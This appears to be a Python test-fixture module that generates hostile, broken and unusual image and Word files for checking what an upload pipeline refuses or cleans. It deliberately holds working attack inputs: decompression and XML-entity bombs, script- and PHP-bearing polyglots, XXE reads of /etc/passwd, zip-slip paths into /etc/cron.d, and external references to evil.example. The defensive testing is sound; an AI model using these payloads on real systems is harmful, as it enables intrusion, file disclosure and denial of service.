"""Files that somebody could send: hostile, odd and merely unusual ones, all made here.

`PICTURES` and `DOCUMENTS` say of each what has to become of it: `refused`, with a sentence, or
`taken`, which of a picture means made anew and of a document a text without anything else.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.images import pictures
from tests.intake import documents

SCRIPT = b"<script>alert(1)</script>"
# Nothing of what is kept or served may hold any of these.
FORBIDDEN = (b"<script", b"<html", b"PK\x03\x04", b"<?php", b"<!ENTITY", b"%PDF", b"<svg")


@dataclass(frozen=True)
class File:
    name: str
    data: bytes
    taken: bool


Maker = Callable[[], bytes]
PICTURES: dict[str, tuple[str, Maker, bool]] = {}
DOCUMENTS: dict[str, tuple[str, Maker, bool]] = {}


def picture(name: str, *, taken: bool) -> Callable[[Maker], Maker]:
    def keep(make: Maker) -> Maker:
        PICTURES[make.__name__] = (name, make, taken)
        return make

    return keep


def document(name: str, *, taken: bool) -> Callable[[Maker], Maker]:
    def keep(make: Maker) -> Maker:
        DOCUMENTS[make.__name__] = (name, make, taken)
        return make

    return keep


def made(table: dict[str, tuple[str, Maker, bool]]) -> dict[str, File]:
    return {key: File(name, make(), taken) for key, (name, make, taken) in table.items()}


def _jpeg_segment(marker: int, data: bytes) -> bytes:
    return b"\xff" + bytes((marker,)) + struct.pack(">H", len(data) + 2) + data


def _inside(data: bytes, *segments: bytes) -> bytes:
    """A JPEG with segments after its first marker."""
    return data[:2] + b"".join(segments) + data[2:]


def _png_with(*chunks: bytes) -> bytes:
    data = pictures.saved(pictures.photo(), "PNG")
    return data[:33] + b"".join(chunks) + data[33:]


def _after_colours(gif: bytes) -> int:
    """Where the blocks of a GIF begin."""
    return 13 + (3 * 2 ** ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)


def _zip(**parts: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return packed.getvalue()


# --- Pictures: bombs ------------------------------------------------------------------------------


@picture("plakat.png", taken=False)
def png_bomb_65000() -> bytes:
    return pictures.png_bomb(65_000, 65_000)


@picture("poster.png", taken=False)
def png_bomb_20000() -> bytes:
    return pictures.png_bomb(20_000, 20_000)


@picture("poster.gif", taken=False)
def gif_bomb() -> bytes:
    data = bytearray(pictures.saved(pictures.drawing(), "GIF"))
    data[6:10] = struct.pack("<HH", 65_535, 65_535)
    return bytes(data)


@picture("poster.jpg", taken=False)
def jpeg_bomb() -> bytes:
    data = bytearray(pictures.jpeg())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


@picture("poster.tif", taken=False)
def tiff_bomb() -> bytes:
    return pictures.saved(Image.new("1", (30_000, 30_000)), "TIFF", compression="group4")


@picture("poster.webp", taken=False)
def webp_bomb() -> bytes:
    return pictures.saved(Image.new("RGB", (16_383, 4_000)), "WEBP", lossless=True, method=0)


@picture("text.png", taken=False)
def png_with_a_bomb_of_text() -> bytes:
    packed = zlib.compress(b"x" * 200_000_000, 9)
    return _png_with(pictures.png_chunk(b"zTXt", b"Comment\0\0" + packed))


@picture("profile.png", taken=False)
def png_with_a_bomb_for_a_profile() -> bytes:
    packed = zlib.compress(b"x" * 200_000_000, 9)
    return _png_with(pictures.png_chunk(b"iCCP", b"icc\0\0" + packed))


@picture("long.png", taken=False)
def png_too_long() -> bytes:
    return pictures.saved(Image.new("1", (20, 60_000)), "PNG")


@picture("frames.gif", taken=True)
def gif_with_thousands_of_frames() -> bytes:
    frame = pictures.saved(Image.new("P", (320, 240)), "GIF")
    at = _after_colours(frame)
    return frame[:at] + frame[at:-1] * 4_000 + b"\x3b"


# --- Pictures: two things at once -----------------------------------------------------------------


@picture("a.gif", taken=True)
def gif_and_javascript() -> bytes:
    data = pictures.saved(pictures.drawing(), "GIF")
    at = _after_colours(data)
    return data[:at] + b"\x21\xfe\x0d/*alert(1)//x\x00" + data[at:-1] + b"\x3b*/=1;alert(1)"


@picture("a.jpg", taken=True)
def jpeg_and_html() -> bytes:
    return _inside(pictures.jpeg(), _jpeg_segment(0xFE, b"<html>" + SCRIPT)) + SCRIPT


@picture("b.jpg", taken=True)
def jpeg_and_php() -> bytes:
    tags = pictures.exif(ImageDescription="<?php system('id'); ?>", Artist="<svg onload=alert(1)>")
    return pictures.jpeg(exif=tags)


@picture("c.jpg", taken=True)
def jpeg_and_zip() -> bytes:
    return pictures.jpeg() + _zip(a=SCRIPT)


@picture("d.png", taken=True)
def png_and_html() -> bytes:
    return _png_with(pictures.png_chunk(b"tEXt", b"Comment\0" + SCRIPT)) + SCRIPT


@picture("e.jpg", taken=False)
def pdf_and_zip() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert(1))>>>>endobj\n" + _zip(a=b"x")


@picture("f.gif", taken=False)
def javascript_that_begins_like_a_gif() -> bytes:
    return b"GIF89a=1;alert(1);//"


@picture("g.bmp", taken=False)
def html_that_begins_like_a_bitmap() -> bytes:
    return b"BM" + SCRIPT


# --- Pictures: broken -----------------------------------------------------------------------------


@picture("half.jpg", taken=False)
def jpeg_cut_off() -> bytes:
    data = pictures.jpeg()
    return data[: len(data) // 2]


@picture("half.png", taken=False)
def png_cut_off() -> bytes:
    data = pictures.saved(pictures.photo(), "PNG")
    return data[: len(data) // 2]


@picture("half.webp", taken=False)
def webp_cut_off() -> bytes:
    data = pictures.saved(pictures.photo(), "WEBP")
    return data[: len(data) // 2]


@picture("sum.png", taken=False)
def png_with_a_wrong_sum() -> bytes:
    data = bytearray(pictures.saved(pictures.photo(), "PNG"))
    data[30] ^= 0xFF
    return bytes(data)


@picture("nothing.jpg", taken=False)
def nothing() -> bytes:
    return b""


@picture("noise.jpg", taken=False)
def noise() -> bytes:
    return b"\xff\xd8\xff\xe0" + bytes(range(256)) * 64


# --- Pictures: unusual and honest -----------------------------------------------------------------


@picture("cmyk.jpg", taken=True)
def cmyk_jpeg() -> bytes:
    return pictures.saved(pictures.photo(mode="CMYK"), "JPEG")


@picture("16.png", taken=True)
def png_of_16_bits() -> bytes:
    return pictures.png_16_bit_rgb()


@picture("grey16.png", taken=True)
def grey_png_of_16_bits() -> bytes:
    return pictures.saved(Image.new("I;16", (64, 64), 40_000), "PNG")


@picture("16.tif", taken=True)
def tiff_of_16_bits() -> bytes:
    return pictures.saved(Image.new("I;16", (64, 64), 40_000), "TIFF")


@picture("32.tif", taken=False)
def tiff_of_32_bits() -> bytes:
    return pictures.saved(Image.new("F", (64, 64), 0.5), "TIFF")


@picture("moving.gif", taken=True)
def animated_gif() -> bytes:
    return pictures.animation("GIF")


@picture("moving.webp", taken=True)
def animated_webp() -> bytes:
    return pictures.animation("WEBP")


@picture("moving.png", taken=True)
def animated_png() -> bytes:
    return pictures.animation("PNG")


@picture("see-through.png", taken=True)
def palette_with_transparency() -> bytes:
    return pictures.saved(pictures.drawing(mode="P"), "PNG", transparency=0)


@picture("progressive.jpg", taken=True)
def progressive_jpeg() -> bytes:
    return pictures.jpeg(progressive=True)


@picture("turned.jpg", taken=True)
def jpeg_turned_by_nonsense() -> bytes:
    return pictures.jpeg(exif=pictures.exif(orientation=99))


@picture("place.jpg", taken=True)
def jpeg_with_its_place() -> bytes:
    return pictures.jpeg(exif=pictures.exif(6, gps=True))


@picture("exif.png", taken=True)
def huge_exif() -> bytes:
    block = pictures.exif(gps=True, ImageDescription="x" * 5_000_000).tobytes()[6:]
    return _png_with(pictures.png_chunk(b"eXIf", block))


@picture("icc.jpg", taken=True)
def huge_profile() -> bytes:
    parts = [b"ICC_PROFILE\0" + bytes((number, 200)) + b"x" * 60_000 for number in range(1, 201)]
    return _inside(pictures.jpeg(), *(_jpeg_segment(0xE2, part) for part in parts))


@picture("xmp.png", taken=True)
def huge_xmp() -> bytes:
    packet = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b"<a>" * 200_000 + b"</x:xmpmeta>"
    text = b"XML:com.adobe.xmp\0\0\0\0\0" + packet
    return _png_with(pictures.png_chunk(b"iTXt", text))


@picture("laughs.jpg", taken=True)
def xmp_with_entities() -> bytes:
    packet = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + number, b"&%c;" % (97 + number) * 10) for number in range(9)
    ) + b"]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&j;</x:xmpmeta>"  # fmt: skip
    return _inside(pictures.jpeg(), _jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet))


@picture("outside.jpg", taken=True)
def xmp_that_asks_for_a_file() -> bytes:
    packet = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return _inside(pictures.jpeg(), _jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet))


# --- Pictures: called something else --------------------------------------------------------------


@picture("photo.exe", taken=True)
def jpeg_called_a_program() -> bytes:
    return pictures.jpeg()


@picture("../../../etc/cron.d/photo.jpg", taken=True)
def jpeg_with_a_path() -> bytes:
    return pictures.jpeg_of((320, 200))


@picture("<img src=x onerror=alert(1)>.html", taken=True)
def jpeg_with_a_script_for_a_name() -> bytes:
    return pictures.jpeg_of((330, 200))


@picture("照" * 400 + ".jpg", taken=True)
def jpeg_with_a_long_name() -> bytes:
    return pictures.jpeg_of((340, 200))


@picture("logo.svg", taken=False)
def svg_with_a_script() -> bytes:
    return pictures.SVG


@picture("logo.png", taken=False)
def svg_called_png() -> bytes:
    return pictures.SVG


@picture("logo.jpg", taken=False)
def svg_behind_a_comment() -> bytes:
    return (
        b"<!-- " + b"x" * 500 + b" --><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )


@picture("logo.svgz", taken=False)
def svg_packed() -> bytes:
    return gzip.compress(pictures.SVG)


@picture("page.jpg", taken=False)
def html_called_jpg() -> bytes:
    return b"<!DOCTYPE html><html>" + SCRIPT


@picture("code.png", taken=False)
def script_called_png() -> bytes:
    return b"alert(1)"


@picture("tool.jpg", taken=False)
def program_called_jpg() -> bytes:
    return b"MZ\x90\0" + bytes(4_000)


@picture("print.jpg", taken=False)
def postscript_called_jpg() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\nshowpage\n"


@picture("phone.heic", taken=False)
def heic() -> bytes:
    return b"\0\0\0\x20ftypheic\0\0\0\0" + bytes(2_000)


# --- Documents ------------------------------------------------------------------------------------


def _report() -> bytes:
    return documents.save(documents.make_report())


def _with(extra: dict[str, bytes]) -> bytes:
    return documents.repack(_report(), {}, extra)


def _changed(part: str, change: Callable[[str], str]) -> bytes:
    return documents.repack(_report(), {part: change})


@document("report.docx", taken=True)
def report() -> bytes:
    return _report()


@document("slip.docx", taken=False)
def zip_slip() -> bytes:
    return _with({"../../../etc/cron.d/x": b"x"})


@document("slip2.docx", taken=False)
def zip_slip_of_windows() -> bytes:
    return _with({"..\\..\\windows\\x": b"x"})


@document("root.docx", taken=False)
def zip_from_the_root() -> bytes:
    return _with({"/etc/passwd": b"x"})


@document("drive.docx", taken=False)
def zip_from_a_drive() -> bytes:
    return _with({"C:/x": b"x"})


@document("bomb.docx", taken=False)
def zip_bomb() -> bytes:
    return _with({f"word/media/{number}.bin": bytes(100_000_000) for number in range(2)})


@document("many.docx", taken=False)
def thousands_of_parts() -> bytes:
    return _with({f"word/x{number}": b"" for number in range(5_000)})


@document("twice.docx", taken=False)
def one_part_twice() -> bytes:
    packed = io.BytesIO(_report())
    with zipfile.ZipFile(packed, "a") as archive:
        # Said in one place of the archive only, so that nothing warns of it.
        info = zipfile.ZipInfo("word/documenx.xml")
        archive.writestr(info, b"<x/>")
    return packed.getvalue().replace(b"word/documenx.xml", b"word/document.xml")


@document("entity.docx", taken=False)
def external_entity() -> bytes:
    doctype = '?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return _changed("word/document.xml", lambda part: part.replace("?>", doctype, 1))


@document("laughs.docx", taken=False)
def billion_laughs() -> bytes:
    inner = "".join(
        f'<!ENTITY {chr(98 + number)} "{f"&{chr(97 + number)};" * 10}">' for number in range(9)
    )
    doctype = f'?><!DOCTYPE x [<!ENTITY a "ha">{inner}]>'
    return _changed("word/document.xml", lambda part: part.replace("?>", doctype, 1))


@document("entity2.docx", taken=False)
def entity_beside_the_text() -> bytes:
    return _with({"docProps/custom.xml": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'})


@document("utf16.docx", taken=False)
def entity_in_another_encoding() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    return _with({"word/extra.xml": text.encode("utf-16")})


@document("deep.docx", taken=False)
def without_end() -> bytes:
    return _with({"word/extra.xml": b"<a>" * 100_000 + b"</a>" * 100_000})


@document("crowd.docx", taken=False)
def millions_of_elements() -> bytes:
    """Small when packed and no bomb when unpacked; a tree of it would fill the machine."""
    crowd = "<w:p/>" * 3_000_000
    return _changed("word/document.xml", lambda part: part.replace("<w:body>", f"<w:body>{crowd}"))


@document("styles.docx", taken=False)
def millions_of_styles() -> bytes:
    crowd = '<w:style w:type="paragraph"/>' * 600_000
    return _changed(
        "word/styles.xml", lambda part: part.replace("</w:styles>", f"{crowd}</w:styles>")
    )


@document("locked.docx", taken=False)
def locked() -> bytes:
    data = bytearray(_report())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(magic) + offset] |= 1
    return bytes(data)


@document("half.docx", taken=False)
def cut_off() -> bytes:
    data = _report()
    return data[: len(data) // 2]


@document("empty.docx", taken=False)
def zip_of_nothing() -> bytes:
    return _zip(readme=b"x")


@document("html.docx", taken=False)
def html_called_docx() -> bytes:
    return b"<html>" + SCRIPT + b"</html>" * 20


@document("old.doc", taken=False)
def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)


@document("linked.docx", taken=True)
def picture_from_elsewhere() -> bytes:
    """A relation that names a file of the machine as the picture: it is not opened."""

    def change(part: str) -> str:
        return part.replace(
            'Target="media/image1.png"', 'TargetMode="External" Target="file:///etc/passwd"'
        )

    return _changed("word/_rels/document.xml.rels", change)


@document("template.docx", taken=True)
def template_from_elsewhere() -> bytes:
    relation = (
        '<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    return _changed(
        "word/_rels/document.xml.rels", lambda part: part.replace("</Relationships>", relation)
    )


@document("svg.docx", taken=True)
def svg_in_the_text() -> bytes:
    return documents.repack(_report(), {}, {"word/media/evil.svg": pictures.SVG})


@document("script.docx", taken=True)
def script_for_a_text() -> bytes:
    import docx

    made = docx.Document()
    made.add_paragraph("<script>alert(1)</script>的夜班", style="Title")
    made.add_paragraph("本报记者 <img src=x onerror=alert(1)>")
    made.add_paragraph("</p><script>alert(1)</script>从今晚起，末班车等最后一班工人。")
    return documents.save(made)
